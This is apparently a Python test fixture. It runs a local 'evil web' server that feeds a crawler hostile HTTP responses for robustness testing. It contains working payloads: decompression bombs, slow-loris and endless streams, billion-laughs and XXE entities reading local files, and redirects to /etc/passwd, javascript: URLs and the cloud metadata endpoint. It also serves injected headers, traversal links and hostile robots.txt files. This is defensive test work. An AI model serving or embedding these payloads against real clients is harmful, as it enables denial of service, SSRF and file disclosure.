"""Servers that want to hurt whoever asks: one way a host, `WAY.evil.test`, all behind one loopback port."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import random
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Awaitable, Callable
from functools import cache
from typing import Self

import brotli
import zstandard
from patience import PATIENCE_S
from scripted_site import story

BOMB_BYTES = 64 << 20
BYTES_A_SECOND = 2_000_000
OK = b"HTTP/1.1 200 OK\r\n"
HTML = OK + b"Content-Type: text/html\r\n"
XML = OK + b"Content-Type: application/xml\r\n"
SENTENCE = "The harbour council heard on Tuesday what clearing the winter's silt from the channel is going to cost. "
STORY = (
    "<!doctype html><html><head><title>What the silt costs</title></head><body><article><h1>What the silt costs</h1>"
    + "".join(f"<p>{number} {SENTENCE * 3}</p>" for number in range(8)) + "</article></body></html>"
).encode()  # fmt: skip

Way = Callable[[asyncio.StreamWriter, str], Awaitable[None]]
WAYS: dict[str, Way] = {}
# where each way's host begins to be asked, and as what
LISTS: dict[str, str] = {}
MAKERS: dict[str, Callable[[], bytes]] = {}


def way(name: str, kind: str = "page") -> Callable[[Way], Way]:
    """Gives a way its name."""

    def named(does: Way) -> Way:
        WAYS[name] = does
        LISTS[name] = kind
        return does

    return named


def says(
    name: str, head: bytes, body: bytes | Callable[[], bytes] = b"", *, kind: str = "page", length: bool = True
) -> None:
    """A way that is one answer: its head, and a body, which may be made late."""

    MAKERS[name] = (lambda: body) if isinstance(body, bytes) else cache(body)

    @way(name, kind)
    async def answer(writer: asyncio.StreamWriter, path: str) -> None:
        made = MAKERS[name]()
        counted = b"Content-Length: %d\r\n" % len(made) if length else b""
        writer.write(head + counted + b"Connection: close\r\n\r\n")
        for at in range(0, len(made), 1 << 16):
            writer.write(made[at : at + (1 << 16)])
            await writer.drain()


def html(text: str) -> bytes:
    """A page around a text."""
    return f"<!doctype html><html><head><title>A page</title></head><body>{text}</body></html>".encode()


async def forever(writer: asyncio.StreamWriter, block: bytes) -> None:
    """The same without end, as fast as a good line brings it."""
    while True:
        writer.write(block)
        await writer.drain()
        await asyncio.sleep(len(block) / BYTES_A_SECOND)


async def drop_by_drop(writer: asyncio.StreamWriter, block: bytes) -> None:
    """The same without end, a byte twice a second."""
    while True:
        for byte in block:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(0.5)


def reset(writer: asyncio.StreamWriter) -> None:
    """Ends the connection with RST."""
    made = writer.get_extra_info("socket")
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.transport.abort()


# connections


@way("closes")
async def closes(writer: asyncio.StreamWriter, path: str) -> None:
    """Nothing at all."""


@way("resets")
async def resets(writer: asyncio.StreamWriter, path: str) -> None:
    """RST in place of an answer."""
    reset(writer)


@way("resets-in-headers")
async def resets_in_headers(writer: asyncio.StreamWriter, path: str) -> None:
    """RST within the headers."""
    writer.write(HTML + b"X-A: ")
    await writer.drain()
    reset(writer)


@way("resets-in-body")
async def resets_in_body(writer: asyncio.StreamWriter, path: str) -> None:
    """RST within the body."""
    writer.write(HTML + b"Content-Length: 100000\r\n\r\n" + STORY)
    await writer.drain()
    await asyncio.sleep(0.05)
    reset(writer)


@way("hangs")
async def hangs(writer: asyncio.StreamWriter, path: str) -> None:
    """No answer and no end."""
    await asyncio.sleep(3600)


@way("slow-headers")
async def slow_headers(writer: asyncio.StreamWriter, path: str) -> None:
    """Slow loris."""
    await drop_by_drop(writer, HTML + b"X-Slow: yes\r\n")


@way("slow-body")
async def slow_body(writer: asyncio.StreamWriter, path: str) -> None:
    """The same with the body."""
    writer.write(HTML + b"Content-Length: 1000000\r\n\r\n")
    await drop_by_drop(writer, b"<p>wait</p>")


# what is not HTTP, or hardly


@way("endless-headers")
async def endless_headers(writer: asyncio.StreamWriter, path: str) -> None:
    """Headers without end."""
    writer.write(HTML)
    await forever(writer, b"".join(b"X-%d: %s\r\n" % (n, b"y" * 200) for n in range(100)))


@way("endless-header")
async def endless_header(writer: asyncio.StreamWriter, path: str) -> None:
    """One header without end."""
    writer.write(HTML + b"X-Long: ")
    await forever(writer, b"y" * 65_536)


@way("endless-status")
async def endless_status(writer: asyncio.StreamWriter, path: str) -> None:
    """A status line without end."""
    writer.write(b"HTTP/1.1 200 ")
    await forever(writer, b"OK" * 32_768)


@way("early-hints")
async def early_hints(writer: asyncio.StreamWriter, path: str) -> None:
    """103 without end."""
    await forever(writer, b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>\r\n\r\n" * 500)


@way("continues")
async def continues(writer: asyncio.StreamWriter, path: str) -> None:
    """100 without end."""
    await forever(writer, b"HTTP/1.1 100 Continue\r\n\r\n" * 1000)


@way("endless-body")
async def endless_body(writer: asyncio.StreamWriter, path: str) -> None:
    """Chunks without end."""
    writer.write(HTML + b"Transfer-Encoding: chunked\r\n\r\n")
    await forever(writer, b"10000\r\n" + b"y" * 65_536 + b"\r\n")


@way("endless-extension")
async def endless_extension(writer: asyncio.StreamWriter, path: str) -> None:
    """A chunk whose extension never ends."""
    writer.write(HTML + b"Transfer-Encoding: chunked\r\n\r\n5;a=")
    await forever(writer, b"y" * 65_536)


@way("tiny-chunks")
async def tiny_chunks(writer: asyncio.StreamWriter, path: str) -> None:
    """Chunks of one byte without end."""
    writer.write(HTML + b"Transfer-Encoding: chunked\r\n\r\n")
    await forever(writer, b"1\r\ny\r\n" * 10_000)


@way("endless-trailers")
async def endless_trailers(writer: asyncio.StreamWriter, path: str) -> None:
    """A body, and trailers without end."""
    writer.write(HTML + b"Transfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n")
    await forever(writer, b"".join(b"X-%d: %s\r\n" % (n, b"y" * 200) for n in range(100)))


@way("http-09")
async def http_09(writer: asyncio.StreamWriter, path: str) -> None:
    """HTTP/0.9: a page and no more."""
    writer.write(STORY)


@way("ssh")
async def ssh(writer: asyncio.StreamWriter, path: str) -> None:
    """Another protocol."""
    writer.write(b"SSH-2.0-OpenSSH_9.9\r\n")


@way("noise")
async def noise(writer: asyncio.StreamWriter, path: str) -> None:
    """Random bytes."""
    writer.write(random.Random(7).randbytes(100_000))


says("status-000", b"HTTP/1.1 000 Odd\r\nContent-Type: text/html\r\n", STORY)
says("status-999", b"HTTP/1.1 999 Odd\r\nContent-Type: text/html\r\n", STORY)
says("status-word", b"HTTP/1.1 abc Odd\r\n", STORY)
says("status-429", b"HTTP/1.1 429 Slow\r\nRetry-After: 99999999999999999999\r\n", b"no")
says("version-9", b"HTTP/9.9 200 OK\r\nContent-Type: text/html\r\n", STORY)
says("minus-length", HTML + b"Content-Length: -1\r\n", STORY, length=False)
says("two-lengths", HTML + b"Content-Length: 5\r\nContent-Length: 50\r\n", STORY, length=False)
says("short-body", HTML + b"Content-Length: 99999\r\n", STORY, length=False)
says("long-body", HTML + b"Content-Length: 5\r\n", STORY, length=False)
says("huge-length", HTML + b"Content-Length: 10000000000\r\n", STORY, length=False)
says("word-length", HTML + b"Content-Length: 0x10\r\n", STORY, length=False)
says("bad-chunks", HTML + b"Transfer-Encoding: chunked\r\n", b"zz\r\n" + STORY, length=False)
says("huge-chunk", HTML + b"Transfer-Encoding: chunked\r\n", b"ffffffffffffffff\r\n" + STORY, length=False)
says("smuggled", HTML + b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n")
says("null-in-header", HTML + b"X-Null: a\x00b\r\n", STORY)
says("cr-in-header", HTML + b"X-Odd: a\rSet-Cookie: b\r\n", STORY)
says("odd-header", HTML + b"X Odd : a\r\n: b\r\nno colon\r\n", STORY)
says("latin-header", HTML + 'X-Odd: \u00fc\u00df\r\nETag: "\u00e9"\r\n'.encode("latin-1"), STORY)
says("many-cookies", HTML + b"".join(b"Set-Cookie: c%d=%s\r\n" % (n, b"y" * 200) for n in range(400)), STORY)
says("long-cookie", HTML + b"Set-Cookie: c=" + b"y" * 200_000 + b"\r\n", STORY)

# bodies that unpack


@cache
def packed(coding: str) -> bytes:
    """So many zeros."""
    if coding == "br":
        press = brotli.Compressor(quality=5)
        return b"".join(press.process(bytes(1 << 20)) for _ in range(BOMB_BYTES >> 20)) + press.finish()
    if coding == "zstd":
        return zstandard.ZstdCompressor(level=3).compress(bytes(BOMB_BYTES))
    if coding == "deflate":
        return zlib.compress(bytes(BOMB_BYTES))
    return gzip.compress(bytes(BOMB_BYTES), 6)


def tower() -> bytes:
    """Gzip in gzip in gzip, each as large as an answer may be."""
    body = random.Random(1).randbytes(7 << 20)
    for _ in range(TOWER):
        body = gzip.compress(body, 0, mtime=0)
    return body


TOWER = 60
says("bomb-gzip", HTML + b"Content-Encoding: gzip\r\n", lambda: packed("gzip"))
says("bomb-br", HTML + b"Content-Encoding: br\r\n", lambda: packed("br"))
says("bomb-zstd", HTML + b"Content-Encoding: zstd\r\n", lambda: packed("zstd"))
says("bomb-deflate", HTML + b"Content-Encoding: deflate\r\n", lambda: packed("deflate"))
says("bomb-twice", HTML + b"Content-Encoding: gzip, gzip\r\n", lambda: gzip.compress(packed("gzip")))
says("tower", HTML + b"Content-Encoding: " + b", ".join([b"gzip"] * TOWER) + b"\r\n", cache(tower))
says("torn-gzip", HTML + b"Content-Encoding: gzip\r\n", lambda: gzip.compress(STORY)[:-20])
says("no-gzip", HTML + b"Content-Encoding: gzip\r\n", STORY)
says("no-br", HTML + b"Content-Encoding: br\r\n", STORY)
says("odd-coding", HTML + b"Content-Encoding: rot13, \x01\r\n", STORY)

# redirects


def leads(name: str, location: bytes, status: int = 302) -> None:
    """A redirect."""
    says(name, b"HTTP/1.1 %d Moved\r\nLocation: %s\r\n" % (status, location))


leads("redirects-to-itself", b"/page")
leads("redirects-far", b"/page?" + b"a" * 15_000)
leads("redirects-to-file", b"file:///etc/passwd")
leads("redirects-to-script", b"javascript:alert(1)")
leads("redirects-inside", b"http://169.254.169.254/latest/meta-data/")
leads("redirects-nowhere", b"")
leads("redirects-oddly", b"http://[::1/\x01\xff")
leads("redirects-300", b"/other", 300)


@way("redirects-on")
async def redirects_on(writer: asyncio.StreamWriter, path: str) -> None:
    """A chain without end."""
    number = int(path.rpartition("/")[2]) + 1 if path.rpartition("/")[2].isdigit() else 1
    writer.write(b"HTTP/1.1 302 Moved\r\nLocation: /on/%d\r\nContent-Length: 0\r\n\r\n" % number)


# letters

for _name, _charset in (("unknown", "no-such-charset"), ("utf-7", "utf-7"), ("idna", "idna"), ("null", "utf\x008"),
                        ("long", "x" * 5000), ("hex", "hex"), ("utf-16", "utf-16"), ("zip", "zip")):  # fmt: skip
    says(f"charset-{_name}", OK + f"Content-Type: text/html; charset={_charset}\r\n".encode(), STORY)
says("no-utf-8", HTML, STORY.replace(b"silt", b"s\xff\xfe\xc0lt"))
says("nulls", HTML, STORY.replace(b" ", b" \x00"))
says("controls", HTML, STORY.replace(b"silt", "s\u202e\u2066\x1b[31m\x07\u200ft\x85\ufeff\ud7ff".encode()))

# pages

says("deep", HTML, lambda: html("<div>" * 100_000 + SENTENCE * 50))
says(
    "attributes", HTML, lambda: html("<div " + " ".join(f"a{n}=1" for n in range(300_000)) + f">{SENTENCE * 50}</div>")
)
says("tags", HTML, lambda: html("<br>" * 900_000 + SENTENCE * 50))
says("paragraphs", HTML, lambda: html("<p>a</p>" * 500_000))
says("long-text", HTML, lambda: html("a " * 3_500_000))
says("long-word", HTML, lambda: html("a" * 7_000_000))
says("long-title", HTML, lambda: f"<title>{'t ' * 2_000_000}</title>".encode() + STORY)
says("links", HTML, lambda: html("".join(f"<a href='/page?{n % 5}'>{n}</a>" for n in range(200_000))))
says("poisoned-links", HTML, lambda: html("".join(f'<a href="{one}">x</a>' for one in POISON)))
says("dates", HTML, lambda: STORY.replace(b"</title>", b"</title>" + b"".join(
    f"<meta property='article:published_time' content='{one}'>".encode() for one in DATES)))  # fmt: skip
says("json-ld", HTML, lambda: STORY.replace(b"</title>", b"</title><script type='application/ld+json'>" + b'[' * 50_000
                                            + b"</script>"))  # fmt: skip
says("empty", HTML)
says("a-picture", OK + b"Content-Type: text/html\r\n", b"\x89PNG\r\n\x1a\n" + bytes(10_000))
POISON = (
    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//", "///", "http://", "http://[::1", "?" * 3000,
    "http://a.test:99999/", "\u202egnp.exe", "http://x\u0000y.test/", "ftp://a/", "#", "http://user:pw@127.0.0.1/",
    "/%00%0d%0aSet-Cookie:%20a=b", "/" + "../" * 500 + "etc/passwd", "/a/b/" * 300, "http://\ufffd.test/",
)  # fmt: skip
DATES = (
    "9999-99-99", "-0001-01-01", "0000-00-00T00:00:00Z", "2026-13-45", "1e999", "\u0661\u0662", "31 Feb 2024",
    "now" * 5000, "Fri, 31 Dec 9999 23:59:59 -2359",
)  # fmt: skip

# lists

LAUGHS = b'<!DOCTYPE x [<!ENTITY a0 "ha">' + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)) + b"]>"  # fmt: skip
XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s"><!ENTITY %% p SYSTEM "http://127.0.0.1:9/dtd"> %%p;]>'
SITEMAP = b"<urlset><url><loc>%s</loc></url></urlset>"
FEED = b"<rss version='2.0'><channel><item><title>%s</title><link>%s</link></item></channel></rss>"
says("laughing-sitemap", XML, LAUGHS + SITEMAP % b"http://laughing-sitemap.evil.test/&a11;", kind="sitemap")
says("laughing-feed", XML, LAUGHS + FEED % (b"&a11;", b"http://laughing-feed.evil.test/&a11;"), kind="feed")
says(
    "file-in-sitemap",
    XML,
    XXE % b"file:///etc/hostname" + SITEMAP % b"http://file-in-sitemap.evil.test/&e;",
    kind="sitemap",
)
says(
    "file-in-feed",
    XML,
    XXE % b"file:///etc/hostname" + FEED % (b"&e;", b"http://file-in-feed.evil.test/&e;"),
    kind="feed",
)
says(
    "bomb-sitemap", OK + b"Content-Type: application/gzip\r\n",
    lambda: gzip.compress(b"<urlset>" + b"<url><loc>x</loc>" * 2_000_000), kind="sitemap",
)  # fmt: skip
says(
    "sitemap-of-itself", XML,
    b"<sitemapindex><sitemap><loc>http://sitemap-of-itself.evil.test/page</loc></sitemap></sitemapindex>",
    kind="sitemap",
)  # fmt: skip
says("deep-sitemap", XML, lambda: b"<urlset>" + b"<url>" * 300_000, kind="sitemap")
says("wide-feed", XML, lambda: b"<rss><channel>" + b"<item/>" * 700_000 + b"</channel></rss>", kind="feed")
says("torn-feed", XML, b"\xff\xfe<rss><channel><item><title>\x00\x01</link>", kind="feed")
says("json-feed", OK + b"Content-Type: application/feed+json\r\n", lambda: b'{"items":[' + b"[" * 200_000, kind="feed")

# what is said of hosts; the page itself is harmless

ROBOTS: dict[str, Way] = {}


def about_host(name: str, does: Way) -> None:
    """A way whose robots.txt is the weapon."""
    says(name, HTML, STORY)
    ROBOTS[name] = does


async def _robots_endless(writer: asyncio.StreamWriter, path: str) -> None:
    writer.write(OK + b"Transfer-Encoding: chunked\r\n\r\n")
    await forever(writer, b"10000\r\n" + b"User-agent: *\nDisallow: /x\n".ljust(65_536, b"#") + b"\r\n")


async def _robots_100_mb(writer: asyncio.StreamWriter, path: str) -> None:
    writer.write(OK + b"Content-Length: 104857600\r\n\r\n")
    for _ in range(1600):
        writer.write(b"User-agent: *\nDisallow: /x\n".ljust(65_536, b"\n"))
        await writer.drain()


async def _robots_bomb(writer: asyncio.StreamWriter, path: str) -> None:
    body = packed("gzip")
    writer.write(OK + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


async def _robots_loop(writer: asyncio.StreamWriter, path: str) -> None:
    writer.write(b"HTTP/1.1 301 Moved\r\nLocation: /robots.txt\r\nContent-Length: 0\r\n\r\n")


async def _robots_wild(writer: asyncio.StreamWriter, path: str) -> None:
    body = b"User-agent: *\n" + b"".join(b"Disallow: /*%d*a*b*c*d*e*f*$\n" % n for n in range(15_000))
    writer.write(OK + b"Content-Length: %d\r\n\r\n" % len(body) + body)
    await writer.drain()


async def _robots_slow_delay(writer: asyncio.StreamWriter, path: str) -> None:
    body = b"User-agent: *\nCrawl-delay: 1e308\nDisallow: \n"
    writer.write(OK + b"Content-Length: %d\r\n\r\n" % len(body) + body)


about_host("robots-endless", _robots_endless)
about_host("robots-100-mb", _robots_100_mb)
about_host("robots-bomb", _robots_bomb)
about_host("robots-loop", _robots_loop)
about_host("robots-wild", _robots_wild)
about_host("robots-noise", noise)
about_host("robots-hangs", hangs)
about_host("robots-resets", resets)
about_host("robots-delays", _robots_slow_delay)


class Server:
    """Answers on loopback in a thread of its own; `log` is `(moment, host, path)` of every request."""

    def __enter__(self) -> Self:
        self.log: list[tuple[float, str, str]] = []
        self._started = threading.Event()
        self._thread = threading.Thread(target=lambda: asyncio.run(self._serve()), daemon=True)
        self._thread.start()
        assert self._started.wait(PATIENCE_S)
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._done.set)
        self._thread.join(PATIENCE_S)

    async def _serve(self) -> None:
        self._loop, self._done = asyncio.get_running_loop(), asyncio.Event()
        server = await asyncio.start_server(self._one, "127.0.0.1", 0)
        self.port: int = server.sockets[0].getsockname()[1]
        self._started.set()
        await self._done.wait()
        server.close()

    async def _one(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError, TimeoutError, OSError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
            path = head.split(" ")[1]
            host = next(line[6:] for line in head.split("\r\n") if line.lower().startswith("host: "))
            self.log.append((time.monotonic(), host, path))
            async with asyncio.timeout(60):
                await self.answer(host.partition(".")[0], path, writer)
                await writer.drain()
        writer.close()

    async def answer(self, name: str, path: str, writer: asyncio.StreamWriter) -> None:
        """What a host, by the first part of its name, says to a path."""
        raise NotImplementedError


class EvilWeb(Server):
    """All ways, each at `WAY.evil.test`. Its weapons are made beforehand."""

    def __enter__(self) -> Self:
        for make in MAKERS.values():
            make()
        return super().__enter__()

    @staticmethod
    def address(name: str) -> str:
        """Where a way is met."""
        return f"http://{name}.evil.test/page"

    async def answer(self, name: str, path: str, writer: asyncio.StreamWriter) -> None:
        """As its way does."""
        if path == "/robots.txt" and name in ROBOTS:
            await ROBOTS[name](writer, path)
        elif path != "/page" and not path.startswith("/on/"):
            writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        else:
            await WAYS[name](writer, path)


class GoodWeb(Server):
    """`good0.test`, `good1.test` …: the page `/0` of each leads to 900 others, which tell a story each."""

    async def answer(self, name: str, path: str, writer: asyncio.StreamWriter) -> None:
        """A story."""
        number = path.removeprefix("/")
        if not number.isdigit():
            writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            return
        links = [f"/{one}" for one in range(1, 901)] if number == "0" else []
        body = story(int(number) * 1000 + int(name.removeprefix("good")), links).body
        writer.write(HTML + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)


if __name__ == "__main__":
    with EvilWeb() as web:
        print(web.port, flush=True)
        sys.stdin.read()
